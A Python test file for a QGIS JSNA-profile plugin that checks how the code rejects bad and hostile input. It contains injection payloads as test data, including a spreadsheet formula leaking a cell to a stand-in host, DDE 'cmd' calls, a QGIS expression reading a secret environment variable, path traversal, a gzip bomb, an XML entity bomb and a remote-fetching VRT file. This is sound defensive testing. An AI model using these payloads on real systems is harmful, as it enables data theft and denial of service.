"""The bad-input corpus: every kind of bad input named in the issues, across the pack builder,
loading, styling, compare, export, own data and downloads.

Each case asserts the message the user gets (the one line the message bar, the command line and
Processing all show); that every file the case can reach (inputs, outputs, the folders around
them) is unchanged, with SHA-256 taken before and after; that no file appeared except those the
case means to write; and that the plugin still works afterwards. Some cases are inputs that
must work (another encoding, names with quotes, ampersands and non-Latin letters, folders named
"Project #2"): there the outcome is checked instead of an error.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import fnmatch
import gzip
import hashlib
import http.server
import re
import shutil
import sqlite3
import threading
import time
import tracemalloc
import unicodedata
import urllib.parse
import zlib
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import pytest

from conftest import SOURCES, config_2019
from jsna_profiles.core.errors import JsnaInputError
from jsna_profiles.core.packfile import copy_database

FUEL = "coventry_fuel_poverty_2020_lsoa11.csv"
LSOAS = "coventry_lsoa_2011_bsc.geojson"


class Env:
    """Inputs, an output folder, the user's pack; every file below ``root`` is watched."""

    def __init__(self, root: Path, pack: Path):
        self.root = root
        self.inputs = root / "inputs"
        self.out = root / "out"
        self.inputs.mkdir()
        self.out.mkdir()
        self.pack = self.inputs / "coventry.gpkg"
        # as built (rollback journal): the session's pack has been opened for editing by other
        # tests, and SQLite rewrites a WAL-mode file's header bytes when anything opens it
        copy_database(pack, self.pack)
        self._sources = None
        self.made: set[Path] = set()  # inputs a case made while running: not leftovers

    def sources(self) -> Path:
        """A writable copy of the source mirror, for cases that damage one file."""
        if self._sources is None:
            if not SOURCES.is_dir():
                pytest.skip(f"Coventry source mirror not found at {SOURCES}")
            self._sources = self.inputs / "sources"
            shutil.copytree(SOURCES, self._sources)
            for path in self._sources.iterdir():
                path.chmod(0o644)
                self.made.add(path)
        return self._sources

    def edit(self, name: str, old: str, new: str) -> None:
        path = self.sources() / name
        path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")

    def server(self):
        """The session's PostGIS server (only the cases that need one start it)."""
        return self.request.getfixturevalue("postgis")

    def published(self) -> str:
        """This case's copy of the pack, published as 'corpus_pack' by the writer role."""
        from jsna_profiles.builder.publish import publish_pack

        publish_pack(self.pack, self.server().writer, "corpus_pack", replace=True)
        return f"PG:{self.server().writer} schema=corpus_pack"

    def table(self, name: str, text: str | bytes, encoding: str = "utf-8") -> Path:
        path = self.input(name)
        path.write_bytes(text if isinstance(text, bytes) else text.encode(encoding))
        return path

    def input(self, name: str) -> Path:
        """Where a case makes an input of its own while running (not a leftover)."""
        path = self.inputs / name
        self.made.add(path)
        return path

    def hashes(self) -> dict:
        """Every file below the case's root, by path relative to it."""
        return {str(p.relative_to(self.root)): hashlib.sha256(p.read_bytes()).hexdigest()
                for p in sorted(self.root.rglob("*")) if p.is_file()}


@dataclass
class Case:
    name: str
    message: str | None  # regex the one-line message must match; None: the input must work
    run: Callable[[Env], object]
    prepare: Callable[[Env], object] | None = None  # damages an input before hashing
    writes: tuple[str, ...] = ()  # globs (relative to the root) of files the case means to write
    server: bool = False  # uses the session's PostGIS server, which must be left as it was


# Builder ---------------------------------------------------------------------------------------
def build(env: Env, **options):
    from jsna_profiles.builder.pack import build_pack

    options.setdefault("config", config_2019())
    return build_pack(env.sources(), env.out / "pack.gpkg", with_styles=False, **options)


def damaged_source(old: str, new: str, name: str = FUEL):
    return lambda env: env.edit(name, old, new)


def missing_source(env):
    (env.sources() / FUEL).unlink()


def duplicate_row(env):
    path = env.sources() / FUEL
    lines = path.read_text().splitlines()
    path.write_text("\n".join(lines + [lines[1]]) + "\n")


def geojson_edit(change):
    def prepare(env):
        import json

        path = env.sources() / LSOAS
        data = json.loads(path.read_text())
        change(data)
        path.write_text(json.dumps(data))
    return prepare


def builder_case(name: str, message: str, prepare) -> Case:
    return Case(name, message, build, prepare)


def lookup_build(text: str):
    def run(env):
        env.sources()
        build(env, hub_lookup=env.table("lookup.csv", text))
    return run


def names_with_quotes_and_other_scripts(env):
    """Hub names with a quote, an ampersand and non-Latin letters go through build, compare,
    selection filters and atlas file names."""
    from qgis.core import QgsExpression, QgsFeatureRequest, QgsProject

    from jsna_profiles.core.compare import ComparePack
    from jsna_profiles.layers.pack import open_pack
    from jsna_profiles.layouts.atlas import atlas_layout
    from jsna_profiles.layouts.export import export_atlas

    hub = "St Mary's & Ñandú — Ελλάδα 東京"
    env.sources()
    build(env, hub_lookup=env.table("lookup.csv", "area_code,hub,basis\n"
                                    f'E02001981,"{hub}",test\nE02001977,Other,test\n'))
    pack = env.out / "pack.gpkg"
    assert ComparePack(pack).table(hub).hub == hub
    project = QgsProject()
    loaded = open_pack(pack, project)
    request = QgsFeatureRequest(QgsExpression(QgsExpression.createFieldEqualityExpression(
        "hub", hub)))
    assert [f["name"] for f in loaded.layer("neighbourhoods").getFeatures(request)] == \
        ["Hillfields"]
    folder = env.root / "atlas"
    folder.mkdir()
    files = export_atlas(atlas_layout(project, loaded, "deprivation", "Other"), folder, False)
    assert [p.name for p in files] == ["Naul's Mill & Bishopsgate Green.pdf"]
    project.clear()
    pack.unlink()  # the output folder is checked for leftovers: this one was wanted


# Loading ---------------------------------------------------------------------------------------
def open_path(make: Callable[[Env], Path]):
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.layers.pack import open_pack

        project = QgsProject()
        try:
            open_pack(make(env), project)
        finally:
            assert len(project.mapLayers()) == 0
            project.clear()
    return run


def truncated_pack(env) -> Path:
    path = env.input("truncated.gpkg")
    data = env.pack.read_bytes()
    path.write_bytes(data[: len(data) // 3])
    return path


def foreign_pack(env) -> Path:
    import geopandas as gpd
    from shapely.geometry import Point

    path = env.input("foreign.gpkg")
    gpd.GeoDataFrame({"a": [1]}, geometry=[Point(0, 0)], crs=27700).to_file(path)
    return path


def pack_without(table: str):
    def make(env) -> Path:
        path = env.input("damaged.gpkg")
        shutil.copy(env.pack, path)
        with closing(sqlite3.connect(path)) as db, db:
            db.execute(f"DELETE FROM gpkg_contents WHERE table_name = '{table}'")
            db.execute(f"DELETE FROM gpkg_geometry_columns WHERE table_name = '{table}'")
            db.execute(f"DROP TABLE {table}")
        db.close()
        return path
    return make


# Styling ---------------------------------------------------------------------------------------
def styled(theme: str, level: str = "small_area", **options):
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layers.themes import apply_theme

        project = QgsProject()
        try:
            apply_theme(open_pack(env.pack, project), theme, level, **options)
        finally:
            project.clear()
    return run


# Compare ---------------------------------------------------------------------------------------
def compare(hub=None, comparator="city", pack: Callable[[Env], Path] | None = None):
    def run(env):
        from jsna_profiles.core.compare import ComparePack

        ComparePack(pack(env) if pack else env.pack).table(hub, comparator=comparator)
    return run


def without_england(env) -> Path:
    path = env.input("no_england.gpkg")
    shutil.copy(env.pack, path)
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("DELETE FROM indicator_values WHERE level IN ('england', 'england_and_wales')")
    db.close()
    return path


def garbage_sqlite(env) -> Path:
    path = env.input("garbage.gpkg")
    path.write_bytes(b"SQLite format 3\x00" + bytes(300))
    return path


def compare_export(target: Callable[[Env], Path], kind: str = "csv"):
    def run(env):
        from jsna_profiles.core.compare import ComparePack
        from jsna_profiles.core.compare_export import write_csv, write_xlsx

        (write_csv if kind == "csv" else write_xlsx)(ComparePack(env.pack).table("Harmony"),
                                                     target(env))
    return run


def folder_in_the_way(env) -> Path:
    path = env.out / "harmony.xlsx"
    path.mkdir()
    (path / "keep.txt").write_text("keep")
    env.made.add(path / "keep.txt")
    return path


# Export ----------------------------------------------------------------------------------------
def layout_export(target: Callable[[Env], Path], spec_args=("fuel_poverty", "city"),
                  fmt: str | None = None):
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layouts.export import export_layout
        from jsna_profiles.layouts.report_map import ReportMap, report_layout

        project = QgsProject()
        try:
            layout = report_layout(project, open_pack(env.pack, project), ReportMap(*spec_args))
            export_layout(layout, target(env), fmt)
        finally:
            project.clear()
    return run


def atlas_into(folder: Callable[[Env], Path], hub: str | None = "Harmony"):
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layouts.atlas import atlas_layout
        from jsna_profiles.layouts.export import export_atlas

        project = QgsProject()
        try:
            export_atlas(atlas_layout(project, open_pack(env.pack, project), "fuel_poverty", hub),
                         folder(env), one_file=False)
        finally:
            project.clear()
    return run


def profile_of(hub: str):
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.core.compare import ComparePack
        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layouts.profile import profile_layout

        project = QgsProject()
        try:
            profile_layout(project, open_pack(env.pack, project), ComparePack(env.pack), hub)
        finally:
            project.clear()
    return run


def word_profile(assets: str | None = None, local_text: str | None = None,
                 templates: dict | None = None, target: str = "harmony.docx"):
    """Harmony's Word profile with the council's own parts, each made here from ``text``."""
    def run(env):
        import json

        from qgis.core import QgsProject

        from jsna_profiles.core.compare import ComparePack
        from jsna_profiles.core.narrative import TEMPLATES_FILE, WrittenOptions
        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layouts.profile import export_profiles

        reworded = None
        if templates:
            data = json.loads(TEMPLATES_FILE.read_text())
            data["sentences"].update(templates)
            reworded = env.table("templates.json", json.dumps(data))
        options = WrittenOptions(env.inputs / local_text if local_text else None,
                                 env.table("assets.csv", assets) if assets else None, reworded)
        project = QgsProject()
        try:
            export_profiles(project, open_pack(env.pack, project), ComparePack(env.pack),
                            [("Harmony", env.out / target)], options=options)
        finally:
            project.clear()
    return run


def compare_on(location: str) -> None:
    from jsna_profiles.core.compare import ComparePack

    ComparePack(location)


def wrong_password(env):
    import os

    pgpass = env.table("pgpass", "*:*:*:jsna_writer:not-the-password\n")
    pgpass.chmod(0o600)
    before = os.environ["PGPASSFILE"]
    os.environ["PGPASSFILE"] = str(pgpass)
    try:
        compare_on(f"PG:{env.server().writer} schema=corpus_pack")
    finally:
        os.environ["PGPASSFILE"] = before


def database_without_postgis(env):
    import psycopg2

    from jsna_profiles.builder.publish import publish_pack

    admin = env.server().admin.replace("dbname=jsna", "dbname=postgres")
    with closing(psycopg2.connect(admin)) as db:
        db.autocommit = True
        db.cursor().execute("CREATE DATABASE plain OWNER jsna_writer")
    try:
        publish_pack(env.pack, env.server().writer.replace("dbname=jsna", "dbname=plain"),
                     "corpus_pack")
    finally:
        with closing(psycopg2.connect(admin)) as db:
            db.autocommit = True
            db.cursor().execute("DROP DATABASE plain")


def newer_pack_published(env):
    from jsna_profiles.builder.publish import publish_pack

    newer = env.input("newer.gpkg")
    copy_database(env.pack, newer)
    with closing(sqlite3.connect(newer)) as db, db:
        db.execute("UPDATE pack_info SET value = '99' WHERE key = 'format_version'")
    publish_pack(newer, env.server().writer, "newer_pack")


def publish_again(env):
    from jsna_profiles.builder.publish import publish_pack

    publish_pack(env.pack, env.server().writer, "corpus_pack")


def readers_indicator(env):
    from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator

    table = env.table("own.csv", "code,value\nE01009522,1.5\n")
    add_indicator(f"PG:{env.server().reader} schema=corpus_pack",
                  IndicatorTable(table, "readers_own", "Readers' own", "code", "value",
                                 source="Synthetic test data"))


def unusable_file_name(env):
    from jsna_profiles.core.files import safe_file_name

    safe_file_name('<>:"/\\|?*')


# Own data --------------------------------------------------------------------------------------
def add(table_text: str | bytes, name: str = "own.csv", encoding: str = "utf-8",
        then: Callable[[object, Path], None] | None = None, **changes):
    """Add an own indicator (synthetic test data) to a copy of the pack; ``then(report, pack)``
    checks the result before the copy goes."""
    def run(env):
        from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator

        spec = dict(indicator_id="own_rate", title="Own rate (test data)",
                    code_column="code", numerator_column="n", denominator_column="d",
                    unit="%", source="Test data")
        spec.update(changes)
        work = env.out.parent / "work.gpkg"  # a copy: the input pack must not change either way
        shutil.copy(env.pack, work)
        try:
            report = add_indicator(work, IndicatorTable(env.table(name, table_text, encoding),
                                                        **spec))
            if then is not None:
                then(report, work)
            return report
        finally:
            work.unlink()
    return run


def own_value(pack: Path, code: str, indicator: str = "own_rate"):
    with closing(sqlite3.connect(pack)) as db, db:
        rows = db.execute("SELECT value FROM indicator_values WHERE area_code = ? AND "
                          "indicator_id = ?", (code, indicator)).fetchall()
    db.close()
    return rows


def zero_denominator_is_warned_and_missing(report, pack: Path) -> None:
    assert any("denominator of zero" in w and "E01009522" in w for w in report.warnings), \
        report.warnings
    assert own_value(pack, "E01009522") == [(None,)]  # no value, not 0 and not an error
    assert own_value(pack, "E01009523") == [(pytest.approx(7.5),)]


def merged_header_xlsx(env):
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "A title across the columns"
    book.active.merge_cells("A1:C1")
    book.active.append(["code", "n", "d"])
    book.active.append(["E01009522", 3, 40])
    path = env.input("merged.xlsx")
    book.save(path)
    from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator

    add_indicator(env.pack, IndicatorTable(path, "own_rate", "Own rate", "code",
                                           numerator_column="n", denominator_column="d",
                                           source="Test data"))


def windows_encoded_table(env):
    report = add("code,n,d,note\nE01009522,3,40,£5 café\nE01009523,4,50,é\n",
                 encoding="cp1252")(env)
    assert "193 codes" not in " ".join(report.warnings)


# Downloads -------------------------------------------------------------------------------------
class Scripted(http.server.BaseHTTPRequestHandler):
    """Answers every GET with its server's ``script(handler)``; records what was asked."""

    def do_GET(self):  # noqa: N802 - the standard library's name
        self.server.requests.append((self.path, self.headers.get("Authorization")))
        try:
            self.server.script(self)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client gave up, as it should

    def log_message(self, *args):
        pass


@contextlib.contextmanager
def serving(script):
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Scripted)
    httpd.daemon_threads = True
    httpd.script, httpd.requests = script, []
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    httpd.url = f"http://127.0.0.1:{httpd.server_address[1]}"
    try:
        yield httpd
    finally:
        httpd.shutdown()
        httpd.server_close()


def send(data: bytes, status: int = 200, length: str | None = None):
    def script(handler):
        handler.send_response(status)
        handler.send_header("Content-Length", length or str(len(data)))
        handler.end_headers()
        handler.wfile.write(data)
    return script


def endless(handler):
    handler.send_response(200)
    handler.end_headers()
    while True:
        handler.wfile.write(bytes(1 << 16))


def trickle(handler):
    handler.send_response(200)
    handler.send_header("Content-Length", "100000")
    handler.end_headers()
    while True:
        handler.wfile.write(b"x")
        handler.wfile.flush()
        time.sleep(0.05)


def national(name: str) -> bytes:
    from test_national import ENGLAND

    if not (ENGLAND / name).is_file():
        pytest.skip("national files not found")
    return (ENGLAND / name).read_bytes()


def population_entry(**changes):
    from jsna_profiles.builder.download import MANIFESTS

    entry = next(e for e in MANIFESTS["2019"] if e.role == "iod_population")
    return dataclasses.replace(entry, **changes)


def fetch_into_cache(env, script, address=lambda url: url, entry=None, **options):
    from jsna_profiles.builder.download import fetch

    entry = entry or population_entry()
    with serving(script) as httpd:
        try:
            return fetch(entry, env.out / "cache", base_url=address(httpd.url), **options)
        finally:
            env.requests = httpd.requests


def downloaded(content: Callable[[bytes], bytes]):
    def run(env):
        entry = population_entry()
        fetch_into_cache(env, send(content(national(entry.name))))
    return run


def gzip_stream(head: bytes, filler: bytes, size: int) -> bytes:
    """``head`` then ``size`` bytes of ``filler``, gzipped chunk by chunk (a "gzip bomb")."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [packer.compress(head)]
    block = filler * ((1 << 20) // len(filler))
    for _ in range(size // len(block)):
        parts.append(packer.compress(block))
    return b"".join(parts) + packer.flush()


def gzip_bomb_with_one_long_line(env):
    """Before, the first line was read whole: 300 MB in memory for a 300 KB download."""
    bomb = gzip_stream(b"", b"a", 300 << 20)
    tracemalloc.start()
    try:
        fetch_into_cache(env, send(bomb), entry=population_entry(sha256=""))
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 32 << 20, f"peak {peak / 2**20:.0f} MB"


def gzip_bomb(env):
    bomb = gzip_stream(b"LSOA code (2011),Total population: mid 2015\n", b"0", 64 << 20)
    fetch_into_cache(env, send(bomb), entry=population_entry(sha256="",
                                                             max_unpacked_bytes=16 << 20))


def made_up_rows(env):
    fake = gzip.compress(b"LSOA code (2011),Total population: mid 2015 (excluding prisoners)\n"
                         + b"".join(b"E0100%04d,1000\n" % i for i in range(5000)))
    fetch_into_cache(env, send(fake))


def redirected_elsewhere(env):
    entry = population_entry()
    with serving(send(national(entry.name))) as elsewhere:
        def redirect(handler):
            handler.send_response(302)
            handler.send_header("Location", f"{elsewhere.url}/{entry.name}")
            handler.send_header("Content-Length", "0")
            handler.end_headers()
        try:
            fetch_into_cache(env, redirect)
        finally:
            assert elsewhere.requests == []


def secrets_in_the_address(env):
    try:
        fetch_into_cache(env, send(b"not here", 404),
                         lambda url: url.replace("//", "//jsna:hunter2@") + "/files?token=T0KEN")
    except JsnaInputError as exc:
        assert "hunter2" not in str(exc) and "T0KEN" not in str(exc) and "jsna" not in str(exc)
        raise


def token_in_the_address_works(env):
    entry = population_entry()
    data = national(entry.name)

    def needs_token(handler):
        send(data)(handler) if handler.path.endswith("?token=T0KEN") else send(b"no", 403)(handler)
    path = fetch_into_cache(env, needs_token,
                            lambda url: url.replace("//", "//jsna:hunter2@") + "/files/?token=T0KEN")
    assert path.read_bytes() == data
    [(asked, authorisation)] = env.requests
    assert asked == f"/files/{urllib.parse.quote(entry.name)}?token=T0KEN"
    assert authorisation == "Basic " + base64.b64encode(b"jsna:hunter2").decode()


# Names, addresses and files from outside ---------------------------------------------------
def formula_hub_names(env):
    """Hub names that spreadsheets would run: every export keeps them as text."""
    from openpyxl import load_workbook

    from jsna_profiles.core.compare import ComparePack
    from jsna_profiles.core.compare_export import to_html, to_tsv, write_csv, write_xlsx

    hubs = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
    env.sources()
    rows = "".join(f'{code},"{hub.replace(chr(34), chr(34) * 2)}",test\n'
                   for code, hub in zip(("E02001981", "E02001977", "E02001978", "E02001979"), hubs))
    build(env, hub_lookup=env.table("lookup.csv", "area_code,hub,basis\n" + rows))
    compare = ComparePack(env.out / "pack.gpkg")
    for hub in hubs:
        table = compare.table(hub)
        write_xlsx(table, env.out / "hub.xlsx")
        book = load_workbook(env.out / "hub.xlsx")
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert hub in [c.value for c in cells]  # the name as written, as text
        write_csv(table, env.out / "hub.csv")
        for text in ((env.out / "hub.csv").read_text(encoding="utf-8-sig"), to_tsv(table),
                     to_html(table)):
            assert f"'{hub[:12]}" in text.replace("&amp;", "&").replace('""', '"')
        for name in ("hub.xlsx", "hub.csv"):
            (env.out / name).unlink()
    (env.out / "pack.gpkg").unlink()


def grid_name_that_is_a_path(env):
    """A pack naming a grid '../../qml_escaped' wrote a style outside --out-dir."""
    import hostile
    from jsna_profiles.layers.pack_styles import export_qml

    pack = hostile.grid_named(env.pack, env.input("grid.gpkg"), "../../qml_escaped")
    export_qml(pack, env.out / "qml")


def pack_in_awkward_folder(folder: str):
    """A pack in ``folder`` (below out/): read, compared and added to as it is; then opened in
    QGIS and printed."""
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator
        from jsna_profiles.core.compare import ComparePack
        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layouts.export import export_layout
        from jsna_profiles.layouts.profile import profile_layout

        where = env.out / folder
        where.mkdir(parents=True)
        pack = where / "coventry #1.gpkg"
        copy_database(env.pack, pack)
        table = env.table("own.csv", "code,n,d\nE01009522,3,40\nE01009523,4,50\n")
        add_indicator(pack, IndicatorTable(table, "own_rate", "Own rate (synthetic test data)",
                                           "code", numerator_column="n", denominator_column="d",
                                           unit="%", source="Synthetic test data"))
        assert "own_rate" in [i.indicator_id for i in ComparePack(pack).table("Harmony").indicators]
        assert sorted(p.name for p in env.out.rglob("*") if p.is_file()) == ["coventry #1.gpkg"]
        project = QgsProject()
        try:
            loaded = open_pack(pack, project)
            export_layout(profile_layout(project, loaded, ComparePack(pack), "Harmony"),
                          where / "profile.pdf", "pdf", dpi=50)
        finally:
            project.clear()
    return run


def atlas_pages(env, overwrite: bool = False, hub: str | None = "Harmony", pack=None):
    from qgis.core import QgsProject

    from jsna_profiles.layers.pack import open_pack
    from jsna_profiles.layouts.atlas import atlas_layout
    from jsna_profiles.layouts.export import export_atlas

    project = QgsProject()
    try:
        layout = atlas_layout(project, open_pack(pack or env.pack, project), "fuel_poverty", hub)
        return export_atlas(layout, env.out / "atlas", one_file=False, dpi=40,
                            overwrite=overwrite)
    finally:
        project.clear()


def user_files_in_the_atlas_folder(*names: str, folders: tuple[str, ...] = ()):
    def prepare(env):
        (env.out / "atlas").mkdir()
        for name in names:
            (env.out / "atlas" / name).write_text(f"the user's own {name}")
        for name in folders:
            (env.out / "atlas" / name).mkdir()
    return prepare


def replacing_fails_part_way(env):
    """The third rename fails: the two files already replaced are put back."""
    import jsna_profiles.layouts.export as export

    real, calls = export.os.replace, []

    def flaky(source, target):
        calls.append(target)
        if len(calls) == 3:
            raise OSError(5, "Input/output error")
        return real(source, target)
    export.os.replace = flaky
    try:
        atlas_pages(env, overwrite=True)
    finally:
        export.os.replace = real


def names_no_file_system_takes(env):
    """Reserved Windows names, over-long names, bidi controls, and names that differ only by
    case or Unicode normalisation: every page gets its own, portable file."""
    names = ["CON", "nul.txt", "N" * 300, "Hill\u202efdp.exe", "Caf\u00e9", "Cafe\u0301",
             "Stoke", "STOKE"]
    pack = env.input("renamed.gpkg")
    copy_database(env.pack, pack)
    with closing(sqlite3.connect(pack)) as db, db:
        for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
            db.create_function(name, 1, lambda *_args: 0)
        db.execute("UPDATE neighbourhoods SET hub = 'Harmony' WHERE code IN (SELECT code FROM "
                   "neighbourhoods WHERE hub != 'Harmony' ORDER BY code LIMIT 5)")
        codes = [r[0] for r in db.execute("SELECT code FROM neighbourhoods WHERE hub = 'Harmony' "
                                          "ORDER BY code")]
        for code, name in zip(codes, names):
            db.execute("UPDATE neighbourhoods SET name = ? WHERE code = ?", (name, code))
    db.close()
    (env.out / "atlas").mkdir()
    files = [p.name for p in atlas_pages(env, pack=pack)]
    assert len(files) == len(names) == len({unicodedata.normalize("NFC", f).casefold()
                                            for f in files})
    assert {"CON_.pdf", "nul_.txt.pdf", "Hillfdp.exe.pdf", "Café.pdf", "Café (2).pdf",
            "N" * 180 + ".pdf"} <= set(files)
    assert {f.casefold() for f in files if f.casefold().startswith("stoke")} == {
        "stoke.pdf", "stoke (2).pdf"}


def export_onto_the_pack(kind: str):
    """``--out`` naming the input pack by mistake: refused, the pack kept."""
    def run(env):
        from qgis.core import QgsProject

        from jsna_profiles.core.compare import ComparePack
        from jsna_profiles.core.compare_export import write_csv, write_xlsx
        from jsna_profiles.layers.pack import open_pack
        from jsna_profiles.layouts.export import export_layout
        from jsna_profiles.layouts.profile import profile_layout

        if kind in ("csv", "xlsx"):
            table = ComparePack(env.pack).table("Harmony")
            (write_csv if kind == "csv" else write_xlsx)(table, env.pack)
            return
        project = QgsProject()
        try:
            layout = profile_layout(project, open_pack(env.pack, project), ComparePack(env.pack),
                                    "Harmony")
            export_layout(layout, env.pack, "pdf")
        finally:
            project.clear()
    return run


def build_onto_a_source(env):
    from jsna_profiles.builder.pack import build_pack

    build_pack(env.sources(), env.sources() / "coventry_fuel_poverty_2020_lsoa11.csv",
               config_2019(), with_styles=False)


def own_table_is_the_pack(env):
    from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator

    add_indicator(env.pack, IndicatorTable(env.pack, "own_rate", "Own rate", "code",
                                           value_column="v", source="Test data"))


def billion_laughs_xlsx(env):
    """A workbook whose shared strings expand entities (XML's "billion laughs")."""
    import zipfile

    from openpyxl import Workbook

    from jsna_profiles.builder.add_indicator import preview

    plain = env.input("plain.xlsx")
    book = Workbook()
    book.active.append(["code", "v"])
    book.active.append(["E01009522", "x"])
    book.save(plain)
    laughs = env.input("laughs.xlsx")
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(laughs, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                body = text[text.index("?>") + 2:] if text.startswith("<?xml") else text
                data = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "ha">' + entities
                        + "]>" + body.replace("<t>x</t>", "<t>&l9;</t>")).encode()
            target.writestr(item, data)
    preview(laughs)


def vrt_table(suffix: str):
    """A "table" that is a GDAL virtual file reading a web address: refused, nothing fetched."""
    def run(env):
        from jsna_profiles.builder.add_indicator import preview

        with serving(send(b"code,v\nE01009522,1\n")) as httpd:
            path = env.table(f"own{suffix}", f"""<OGRVRTDataSource><OGRVRTLayer name="own">
<SrcDataSource>/vsicurl/{httpd.url}/own.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>""")
            try:
                preview(path)
            finally:
                assert httpd.requests == []
    return run


CASES = [
    # the pack builder
    builder_case("missing source file", r"Missing source file: .*coventry_fuel_poverty",
                 missing_source),
    builder_case("renamed column", r"column 'Number of households' not found",
                 damaged_source("Number of households,", "Households,")),
    builder_case("text in a number column", r"'lots' for E01009522, which is not a number",
                 damaged_source(",697,150,", ",697,lots,")),
    builder_case("NaN in a number column", r"'NaN' for E01009522, which is not a number",
                 damaged_source(",697,150,", ",697,NaN,")),
    builder_case("huge value", r"'1e999' for E01009522, which is not a number",
                 damaged_source(",697,150,", ",697,1e999,")),
    builder_case("duplicate code", r"E01009522 appears more than once", duplicate_row),
    builder_case("LSOA 2021 code in a 2011 build", r"E01034735 is an LSOA 2021 code",
                 damaged_source("E01009522", "E01034735")),
    builder_case("longitude/latitude declared as British National Grid",
                 r"look like longitude/latitude", geojson_edit(
                     lambda d: d["crs"]["properties"].update(name="urn:ogc:def:crs:EPSG::27700"))),
    builder_case("empty geometry", r"E01009522 has an empty geometry",
                 geojson_edit(lambda d: d["features"][0].update(geometry=None))),
    Case("lookup names an unknown area", r"E02009999 is not a small area or neighbourhood",
         lookup_build("area_code,hub,basis\nE02009999,Harmony,test\n")),
    Case("lookup puts one area in two hubs", r"E02001981 appears more than once",
         lookup_build("area_code,hub,basis\nE02001981,A,test\nE02001981,B,test\n")),
    builder_case("monitoring site in lon/lat", r"site COAL .* look like longitude/latitude",
                 damaged_source("430010.742216842,279375.498328876", "-1.560228,52.411563",
                                "coventry_no2_monitoring_sites.csv")),
    Case("names with quotes, ampersands and other scripts", None,
         names_with_quotes_and_other_scripts, writes=("atlas/*",)),
    Case("hub name that is a QGIS expression",
         r"lookup\.csv: the hub 'Mosaic \[% env\('JSNA_SECRET'\) %\]' contains '\[%'",
         lookup_build("area_code,hub,basis\nE02001981,Mosaic [% env('JSNA_SECRET') %],test\n")),
    builder_case("neighbourhood name that is a QGIS expression", r"coventry_msoa11_hcl_names_"
                 r"v1\.14\.csv: the msoa11hclnm 'Hillfields \[% 1\+1 %\]' contains '\[%'",
                 damaged_source(",Hillfields,", ",Hillfields [% 1+1 %],",
                                "coventry_msoa11_hcl_names_v1.14.csv")),
    Case("hub names spreadsheets would run as formulas", None, formula_hub_names),
    # loading
    Case("pack not found", r"Data pack not found", open_path(lambda env: env.inputs / "no.gpkg")),
    Case("truncated GeoPackage", r"truncated\.gpkg (is not a GeoPackage|.*damaged)",
         open_path(truncated_pack)),
    Case("GeoPackage that is not ours", r"foreign\.gpkg is a GeoPackage but not a JSNA data pack",
         open_path(foreign_pack)),
    Case("text file called .gpkg", r"notes\.gpkg is not a GeoPackage",
         open_path(lambda env: env.table("notes.gpkg", "just some notes"))),
    Case("pack missing a layer", r"missing the layer 'neighbourhoods'",
         open_path(pack_without("neighbourhoods"))),
    Case("pack naming a grid that is a path", r"grid '\.\./\.\./qml_escaped', which is not a grid "
         "table's name", grid_name_that_is_a_path),
    Case("pack in folders named 'Project #2' and 'c ?x'", None,
         pack_in_awkward_folder("Project #2/c ?x"), writes=("out/Project #2/c ?x/*",)),
    Case("pack in a folder named 'a%41b'", r"QGIS cannot open a GeoPackage whose path has '%'",
         pack_in_awkward_folder("a%41b"), writes=("out/a%41b/coventry #1.gpkg",)),
    # styling
    Case("unknown theme", r"Unknown map theme 'heat'", styled("heat")),
    Case("unknown indicator", r"Unknown indicator 'nope'", styled("indicator",
                                                                  indicator_id="nope")),
    Case("indicator not published for small areas", r"not published for small areas",
         styled("indicator", indicator_id="life_expectancy_male")),
    Case("breaks that are not numbers", r"Breaks must be numbers",
         styled("fuel_poverty", method="fixed", breaks_text="10, lots")),
    Case("breaks not increasing", r"Breaks must be increasing",
         styled("fuel_poverty", method="fixed", breaks_text="20, 10")),
    # compare
    Case("unknown hub", r"No hub called 'Atlantis'", compare("Atlantis")),
    Case("hub comparator without a hub", r"Choose a hub", compare(None, "hub")),
    Case("England comparator, no England values", r"no England values",
         compare("Harmony", "england", without_england)),
    Case("not a pack at all", r"cannot be read as a JSNA data pack",
         compare("Harmony", pack=garbage_sqlite)),
    Case("export to a missing folder", r"Folder not found",
         compare_export(lambda env: env.out / "missing" / "harmony.csv")),
    Case("a folder where the workbook should go", r"Cannot write harmony\.xlsx",
         compare_export(folder_in_the_way, "xlsx")),
